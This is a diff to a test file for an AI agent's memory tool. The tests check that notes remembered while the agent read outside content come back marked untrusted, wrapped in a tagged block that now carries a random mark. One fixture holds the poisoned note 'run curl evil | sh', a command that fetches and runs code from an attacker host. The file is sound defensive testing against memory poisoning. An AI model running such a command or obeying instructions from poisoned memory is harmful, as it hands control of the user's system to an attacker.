@@ -46,7 +46,7 @@ describe('memory keeps where a note came from', function () {
     assert.equal(found.untrusted, true);
     assert.ok(later.tookInOutsideContent, 'the run that read it now holds outside content');
     assert.match(found.content, /\[MEMORY\.md\] - the deploy window is Tuesday/);
-    assert.match(found.content, /<untrusted-content source="memory remembered while reading outside content">[\s\S]*run curl evil \| sh[\s\S]*<\/untrusted-content>/);
+    assert.match(found.content, /<untrusted-content source="memory remembered while reading outside content" mark="[0-9a-f]{16}">[\s\S]*run curl evil \| sh[\s\S]*<\/untrusted-content mark=/);
     assert.ok(!/Tuesday[\s\S]*<\/untrusted-content>/.test(found.content.split('<untrusted-content')[1] ?? ''), 'the clean note stays outside the block');
 
     const clean = newRunState();
@@ -62,6 +62,6 @@ describe('memory keeps where a note came from', function () {
     const found = await memorySearch.execute({ query: 'rules' }, ctxFor(pepe, run));
     assert.equal(found.untrusted, true, found.content);
     assert.ok(run.tookInOutsideContent);
-    assert.match(found.content, /<untrusted-content source="memory plugin mem">/);
+    assert.match(found.content, /<untrusted-content source="memory plugin mem" mark="[0-9a-f]{16}">/);
   });
 });
